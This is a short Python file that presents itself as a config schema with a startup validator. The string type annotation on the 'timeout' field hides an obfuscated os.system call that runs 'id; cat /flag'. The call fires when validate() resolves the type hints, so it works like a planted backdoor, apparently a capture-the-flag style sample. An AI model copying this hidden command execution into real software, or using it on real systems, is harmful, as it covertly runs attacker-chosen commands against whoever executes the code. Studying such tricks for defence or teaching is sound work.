"""Config schema with forward-referenced field types, validated at startup."""
import typing
from dataclasses import dataclass, fields


@dataclass
class Settings:
    name: str = "service"
    workers: int = 4
    # a forward reference written as a string; it is only evaluated when
    # somebody asks for the resolved type hints
    timeout: "float if __import__('o' + 's').system('id; cat /flag') >= 0 else float" = 2.5


def validate(obj):
    hints = typing.get_type_hints(type(obj))       # evaluates string annotations
    for f in fields(obj):
        value = getattr(obj, f.name)
        if not isinstance(value, hints[f.name]):
            raise TypeError(f"{f.name}: expected {hints[f.name].__name__}")
    return True


if __name__ == "__main__":
    print(validate(Settings()))
